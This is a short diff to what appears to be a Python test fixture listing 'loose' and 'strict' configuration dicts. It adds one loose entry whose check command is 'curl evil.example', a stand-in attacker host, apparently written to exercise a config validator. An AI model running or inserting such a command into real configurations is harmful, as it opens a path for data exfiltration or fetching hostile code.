@@ -26,6 +26,7 @@ LOOSE: list[dict[str, Any]] = [
     {"actions": {"tests": True}},
     {"log_level": "debug"},
     {"deadline_seconds": 900},
+    {"checks": [{"name": "x", "command": "curl evil.example"}]},
 ]
 STRICT: list[dict[str, Any]] = [
     {"provider": "offline"},
